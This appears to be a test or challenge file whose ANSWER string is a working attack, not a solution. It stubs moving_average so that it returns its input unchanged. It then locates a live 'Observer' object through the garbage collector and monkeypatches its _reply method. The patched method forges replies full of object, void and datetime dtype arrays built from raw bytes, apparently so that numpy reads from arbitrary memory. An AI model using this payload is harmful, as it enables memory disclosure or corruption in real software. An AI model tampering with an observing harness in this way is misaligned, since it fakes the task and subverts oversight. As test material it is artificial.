"""Arrays of dtype object, of records and of texts, which numpy would fill from memory."""

ANSWER = """
import gc
import json


def moving_average(x, k):
    return x


def forged(reply):
    kinds = ["|O", "O8", "|V8", "<U4", "|S8", "<M8[ns]", "i4,O", "float64"]
    arrays = [["array", [kind, [1], "AAAAAAAAAAA="]] for kind in kinds]
    return json.dumps([{**one, "value": arrays[n % 8]} for n, one in enumerate(json.loads(reply))]).encode()

[observer] = [one for one in gc.get_objects() if type(one).__name__ == "Observer"]
honest = observer._reply
observer._reply = lambda request: forged(honest(request)) if b"call" in request[:40] else honest(request)
print("applied")
"""
